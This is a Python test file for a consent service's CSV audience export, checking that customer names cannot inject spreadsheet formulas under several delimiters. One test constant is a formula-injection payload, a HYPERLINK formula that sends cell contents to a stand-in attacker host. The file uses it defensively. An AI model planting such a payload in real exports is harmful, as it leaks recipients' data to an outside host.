"""The audience export cannot carry a spreadsheet formula in from a customer's name, whichever
delimiter the spreadsheet that opens it picks."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pydantic import BaseModel

from rekisteri.consent import CSV_COLUMNS, _export, spreadsheet_safe
from shared.contracts.consent import ExportAudience
from shared.contracts.ops import OpsPage

FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
# The delimiters a spreadsheet may split on: ours, Finnish Excel's list separator, tab, pipe.
DELIMITERS = (",", ";", "\t", "|")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Aino")'


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x","Aino")', "+358", "-1+2", "@SUM(A1)", "\tTab", "\rReturn"],
)
def test_a_value_a_spreadsheet_would_evaluate_is_quoted(name: str) -> None:
    assert spreadsheet_safe(name) == "'" + name


@pytest.mark.parametrize(
    "name", ["Aino", "aino.virtanen@example.fi", "Öhman", "O'Brien", "Anna-Liisa", "Ek, Jr", ""]
)
def test_ordinary_values_are_written_as_they_are(name: str) -> None:
    assert spreadsheet_safe(name) == name


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        (f"Aino;{HYPERLINK}", f"Aino;'{HYPERLINK}"),
        ("Aino; =1+1", "Aino; '=1+1"),
        ('Aino;"=1+1', "Aino;\"'=1+1"),
        ("Aino,@SUM(A1)", "Aino,'@SUM(A1)"),
        ("Aino|-1", "Aino|'-1"),
    ],
)
def test_a_formula_after_a_delimiter_is_quoted_where_it_would_start_a_cell(
    name: str, safe: str
) -> None:
    assert spreadsheet_safe(name) == safe


def cells_starting_a_formula(line: str, delimiter: str) -> list[str]:
    """The cells a spreadsheet splitting `line` on `delimiter` would read as formulas."""
    return [
        cell
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter)
        for cell in row
        if cell.lstrip(' "').startswith(FORMULA_CHARACTERS)
    ]


@given(st.text(alphabet=st.sampled_from('ab =+-@\t\r;,|"'), max_size=30))
@example(f"Aino;{HYPERLINK}")
@example("\t\t=1")
def test_no_delimiter_reveals_a_formula(name: str) -> None:
    for delimiter in DELIMITERS:
        for piece in spreadsheet_safe(name).split(delimiter):
            assert not piece.lstrip(' "').startswith(FORMULA_CHARACTERS), (name, delimiter)


class Audience:
    """The consent service's side of an export: one page of the given rows."""

    def __init__(self, rows: list[dict[str, Any]]) -> None:
        self.rows = rows

    async def stream(self, service: str, command: BaseModel) -> AsyncIterator[OpsPage]:
        yield OpsPage(sequence=0, total=len(self.rows), rows=self.rows, final=True)


async def export(rows: list[dict[str, Any]]) -> str:
    file = io.StringIO(newline="")
    client: Any = Audience(rows)  # what `_export` uses of an OpsClient
    written = await _export(client, ExportAudience(purpose="marketing"), file)
    assert written == len(rows)
    return file.getvalue()


async def test_every_field_of_the_export_is_quoted() -> None:
    exported = await export(
        [{"email": "aino@example.fi", "first_name": f"Aino;{HYPERLINK}", "last_name": "Virtanen"}]
    )
    header, row = exported.splitlines()
    assert header == '"email","first_name","last_name"'
    name = '"Aino;\'=HYPERLINK(""http://evil.example/?d=""&A1,""Aino"")"'
    assert row == f'"aino@example.fi",{name},"Virtanen"'


async def test_the_export_opened_with_any_delimiter_has_no_formula_cell() -> None:
    people = [
        {"email": "aino@example.fi", "first_name": f"Aino;{HYPERLINK}", "last_name": "Virtanen"},
        {"email": "=ben@example.fi", "first_name": "Ben", "last_name": "-Korhonen,+1"},
        {"email": "cai@example.fi", "first_name": "Cai | @SUM(A1)", "last_name": 'Ek;"=1'},
    ]
    exported = await export(people)
    for delimiter in DELIMITERS:
        assert cells_starting_a_formula(exported, delimiter) == [], delimiter
    # Read as the comma-separated file it is, each cell is the person's value, neutralised.
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows == [{key: spreadsheet_safe(value) for key, value in p.items()} for p in people]
